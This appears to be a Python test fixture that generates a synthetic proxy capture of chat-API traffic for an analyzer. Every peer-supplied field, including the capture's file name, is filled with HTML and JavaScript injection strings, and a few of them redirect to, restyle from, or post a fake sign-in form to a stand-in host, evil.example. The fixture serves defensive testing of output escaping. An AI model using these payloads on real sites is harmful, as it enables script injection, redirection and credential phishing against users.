"""Text that would do something in a page if it ever became markup, and a capture full of it."""

import json
from collections.abc import Iterator
from pathlib import Path

import synthetic

from analyzer.model import (
    AnyRecord,
    Body,
    CaptureEnd,
    CaptureHead,
    Connection,
    ExchangeEnd,
    Lost,
    Reads,
    RequestEnd,
    RequestHead,
    ResponseHead,
)

HIT = "window.hit=1"
"""What every one of them would do."""

ATTACKS = (
    f"<script>{HIT}</script>",
    f"<img src=x onerror={HIT}>",
    f'"><svg onload={HIT}>',
    f"' onmouseover='{HIT}' autofocus onfocus='{HIT}",
    f"javascript:{HIT}",
    f"</script><script>{HIT}</script>",
    f"</title></style><script>{HIT}</script>",
    f"<!--<script>{HIT}",
    f"-->]]><script>{HIT}</script>",
    f"${{{HIT}}}{{{{constructor.constructor('{HIT}')()}}}}",
    f"<iframe srcdoc='<script>parent.{HIT}</script>'></iframe>",
    "<base href=http://evil.example/><link rel=stylesheet href=http://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    f"&lt;img src=x onerror={HIT}&gt;",
    f"`<b onclick={HIT}>`",
    f"\u202e<b>\u2066{HIT}",
    f"a\x00b\x1b[31m<b>{HIT}",
    "<form action=http://evil.example/><input autofocus><button>Sign in</button></form>",
    f"<a href=javascript:{HIT}>x</a><style>*{{display:none}}</style>",
)

FILE_NAME = "<img src=x onerror=window.hit=1> & \"'.jsonl"


def capture(directory: Path) -> Path:
    """A capture with an attack in every place that a peer fills, and in its own name."""
    return synthetic.write(directory / FILE_NAME, _records())


def _records() -> Iterator[AnyRecord]:
    at_ns, wall_ns = synthetic.START_NS, synthetic.WALL_NS
    first = ATTACKS[0]
    yield CaptureHead("hostile", "proxy", first, "chunk", 41, at_ns, wall_ns)
    yield Connection(1, at_ns, "client", first, peer=first, sni=first, tls=first)
    for number, attack in enumerate(ATTACKS, 1):
        at_ns += 2_000 * synthetic.MS
        yield from _turn(number, at_ns, attack)
    yield Lost(at_ns, first, 3, ATTACKS[1], 4_096, 1)
    yield CaptureEnd(at_ns + 2_000 * synthetic.MS)


def _turn(number: int, sent_ns: int, attack: str) -> Iterator[AnyRecord]:
    ms = synthetic.MS
    path = f"/backend-api/f/conversation?{attack}"
    headers = tuple((name, attack) for name in ("server", "server-timing", "via", "retry-after"))
    kind = (("content-type", f"text/event-stream; charset={attack}"),)
    yield RequestHead(
        number, sent_ns, "POST", "https", f"{attack}.example", path, "HTTP/2.0", headers, 1
    )
    body = json.dumps({"action": "next", "model": attack, "conversation_id": attack}).encode()
    yield Body(number, sent_ns, "request", len(body), body)
    yield RequestEnd(number, sent_ns)
    yield ResponseHead(
        number, sent_ns + 60 * ms, 200, "HTTP/2.0", (*kind, *headers), attack, streamed=True
    )
    for place, data in enumerate(_events(attack)):
        at_ns = sent_ns + (100 + 40 * place) * ms
        yield Reads(number, (at_ns,), (len(data),), data)
    yield ExchangeEnd(number, sent_ns + 900 * ms, "server_abort", attack)


def _events(attack: str) -> Iterator[bytes]:
    message = {
        "id": attack,
        "author": {"role": "assistant"},
        "content": {"content_type": "text", "parts": [""]},
        "status": "in_progress",
        "recipient": "all",
        "metadata": {"model_slug": attack},
    }
    root = {"message": message, "conversation_id": attack, "error": None}
    yield synthetic.event("v1", "delta_encoding")
    yield synthetic.event({"p": "", "o": "add", "v": root, "c": 0}, "delta")
    for _ in range(4):
        yield synthetic.append(attack)
    yield synthetic.event({"type": "title_generation", "title": attack})
    yield f"event: {attack}\ndata: {attack}\n\n".replace("\x00", "").encode()
    yield synthetic.event({"type": "error", "error": attack, "message": attack})
